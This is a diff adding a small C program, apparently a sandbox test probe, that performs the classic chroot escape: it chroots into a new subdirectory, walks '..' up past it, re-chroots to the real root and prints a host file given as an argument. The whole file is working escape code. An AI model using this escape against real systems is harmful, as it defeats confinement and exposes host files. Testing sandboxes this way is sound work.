@@ -1,0 +1,28 @@
+/*
+ * probe_escape FILE: the oldest way out of a chroot, then prints FILE of the host.
+ *
+ * A process has one root. It takes another below its working directory, which is then outside of
+ * it; and ".." stops at the root only for who comes by it on the way up.
+ */
+#include <stdio.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+int main(int argc, char **argv)
+{
+    char text[256] = "";
+
+    mkdir("elsewhere", 0755);
+    if (argc < 2 || chroot("elsewhere") < 0)
+        return 1;
+    for (int i = 0; i < 1000; i++)
+        if (chdir("..") < 0)
+            return 2;
+    if (chroot(".") < 0)
+        return 3;
+    FILE *file = fopen(argv[1], "re");
+    if (!file || !fgets(text, sizeof(text), file))
+        return 4;
+    printf("%s", text);
+    return 0;
+}
